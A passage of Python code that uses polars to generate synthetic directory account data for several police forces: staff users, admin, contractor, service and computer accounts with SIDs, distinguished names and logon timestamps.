def _conform_truth(df: pl.DataFrame) -> pl.DataFrame:
    """Name-keyed truth rows (group names resolved to ids) in TRUTH_SCHEMA."""
    return conform(df.select([c for c in TRUTH_SCHEMA.names() if c in df.columns]), TRUTH_SCHEMA)


def _person_columns(people: pl.DataFrame, domain_sid: str, now: datetime) -> pl.DataFrame:
    """Directory attributes of ordinary staff, vectorised over all of them."""
    home_ou = pl.col("org").replace_strict({f.id: f.ou for f in FORCES})
    upn_sfx = pl.col("org").replace_strict({f.id: f.upn_suffix for f in FORCES})
    hr_mail = pl.col("hr_org").replace_strict({f.id: f.mail_domain for f in FORCES})
    hr_company = pl.col("hr_org").replace_strict({f.id: f.name for f in FORCES})
    hr_base = pl.col("hr_org").replace_strict({f.id: f.employee_base for f in FORCES})
    first_ascii = _ascii(pl.col("first"))
    last_ascii = _ascii(pl.col("last"))
    username = pl.concat_str(
        [first_ascii.str.slice(0, 1), last_ascii.str.slice(0, 12), pl.col("seq").cast(pl.String)]
    )
    display = pl.concat_str([pl.col("first"), pl.col("last")], separator=" ")
    inactive = pl.col("inactive_u")
    last_logon = (
        pl.when(inactive < 0.04)
        .then(pl.lit(now) - pl.duration(days=pl.col("dormant_days")))
        .when(inactive < 0.05)
        .then(pl.lit(None, pl.Datetime("us", "UTC")))
        .otherwise(pl.lit(now) - pl.duration(days=pl.col("age_days"), hours=pl.col("seq") % 24))
    )
    return people.with_columns(
        source=pl.lit(SOURCE),
        sid=pl.concat_str([pl.lit(domain_sid + "-"), pl.col("rid").cast(pl.String)]),
        username=username,
        upn=pl.concat_str([username, upn_sfx]),
        display_name=display,
        mail=pl.concat_str(
            [
                first_ascii,
                pl.lit("."),
                last_ascii,
                pl.col("seq").cast(pl.String),
                pl.lit("@"),
                hr_mail,
            ]
        ),
        employee_id=(hr_base + pl.col("org_seq")).cast(pl.String),
        company=hr_company,
        description=pl.lit(None, pl.String),
        dn=pl.concat_str(
            [
                pl.lit("CN="),
                _dn_escape(display),
                pl.lit(" "),
                pl.col("seq").cast(pl.String),
                pl.lit(",OU=Users,"),
                home_ou,
            ]
        ),
        kind=pl.lit(AccountKind.USER.value),
        enabled=~((inactive >= 0.05) & (inactive < 0.08)),
        last_logon=last_logon,
        pwd_last_set=pl.lit(now) - pl.duration(days=pl.col("created_days") // 3),
        created=pl.lit(now) - pl.duration(days=pl.col("created_days")),
        manager_id=pl.lit(None, pl.String),
        sid_history=pl.lit([], pl.List(pl.String)),
        privileged=pl.lit(False),
    )


def _simple_accounts(
    rng: np.random.Generator,
    rows: dict[str, list[Any]],
    domain_sid: str,
    now: datetime,
    rid_base: int,
) -> pl.DataFrame:
    n = len(rows["username"])
    df = pl.DataFrame(rows).with_columns(
        source=pl.lit(SOURCE),
        account_id=guids(rng, n),
        sid=pl.concat_str(
            [pl.lit(domain_sid + "-"), (pl.int_range(pl.len()) + rid_base).cast(pl.String)]
        ),
        last_logon=pl.lit(now) - pl.duration(days=pl.lit(pl.Series(rng.integers(0, 20, n)))),
        pwd_last_set=pl.lit(now - timedelta(days=100)),
        created=pl.lit(now - timedelta(days=1000)),
        manager_id=pl.lit(None, pl.String),
        sid_history=pl.lit([], pl.List(pl.String)),
    )
    for col in ACCOUNTS_SCHEMA.names():
        if col not in df.columns:
            df = df.with_columns(pl.lit(None, ACCOUNTS_SCHEMA[col]).alias(col))
    return df


def _admin_accounts(
    rng: np.random.Generator, n: dict[str, int], domain_sid: str, now: datetime
) -> pl.DataFrame:
    rows: dict[str, list[Any]] = {
        k: []
        for k in (
            "org",
            "username",
            "upn",
            "display_name",
            "mail",
            "employee_id",
            "company",
            "dn",
            "kind",
            "enabled",
            "privileged",
            "department",
        )
    }
    for f in FORCES:
        for i in range(n[f.id]):
            user = f"adm-{f.id}{i:02d}"
            rows["org"].append(f.id)
            rows["username"].append(user)
            rows["upn"].append(user + f.upn_suffix)
            rows["display_name"].append(f"Admin {f.prefix}{i:02d}")
            rows["mail"].append(None)
            rows["employee_id"].append(str(f.employee_base + 900_000 + i))
            rows["company"].append(f.name)
            rows["dn"].append(f"CN={user},OU=Admins,{f.ou}")
            rows["kind"].append(AccountKind.USER.value)
            rows["enabled"].append(True)
            rows["privileged"].append(True)
            rows["department"].append("ICT")
    return _simple_accounts(rng, rows, domain_sid, now, 3_000_000)


def _unattributed_accounts(
    rng: np.random.Generator, n: int, domain_sid: str, now: datetime
) -> pl.DataFrame:
    users = [f"temp.contractor{i}" for i in range(n)]
    rows: dict[str, list[Any]] = {
        "username": users,
        "upn": [f"{u}@{DOMAIN}" for u in users],
        "display_name": [f"Contractor {i}" for i in range(n)],
        "dn": [f"CN={u},{USERS_CN}" for u in users],
        "kind": [AccountKind.USER.value] * n,
        "enabled": [True] * n,
        "privileged": [False] * n,
    }
    return _simple_accounts(rng, rows, domain_sid, now, 3_100_000)


def _service_accounts(
    rng: np.random.Generator, n: int, domain_sid: str, now: datetime
) -> pl.DataFrame:
    names = ["backup", "sql", "print", "scan", "av", "sccm", "wsus", "mdm", "itsm", "cctv"]
    users = [f"svc-{names[i % len(names)]}{i:02d}" for i in range(n)]
    rows: dict[str, list[Any]] = {
        "username": users,
        "upn": [f"{u}@{DOMAIN}" for u in users],
        "display_name": [f"Service {u}" for u in users],
        "description": ["Shared service account, hosted by West Mercia"] * n,
        "dn": [f"CN={u},OU=Service Accounts,{SHARED_OU}" for u in users],
        "kind": [AccountKind.SERVICE.value] * n,
        "enabled": [True] * n,
        "privileged": [False] * n,
    }
    return _simple_accounts(rng, rows, domain_sid, now, 3_200_000)


def _computer_accounts(
    rng: np.random.Generator, n: int, domain_sid: str, now: datetime
) -> pl.DataFrame:
    forces = list(itertools.islice(itertools.cycle(FORCES), n))
    users = [f"{f.prefix}PC{i:05d}$" for i, f in enumerate(forces)]
    rows: dict[str, list[Any]] = {
        "username": users,
        "display_name": [u.rstrip("$") for u in users],
        "dn": [
            f"CN={u.rstrip('$')},OU=Computers,{f.ou}" for u, f in zip(users, forces, strict=True)
        ],
        "kind": [AccountKind.COMPUTER.value] * n,
        "enabled": [True] * n,
        "privileged": [False] * n,
    }
    return _simple_accounts(rng, rows, domain_sid, now, 4_000_000)
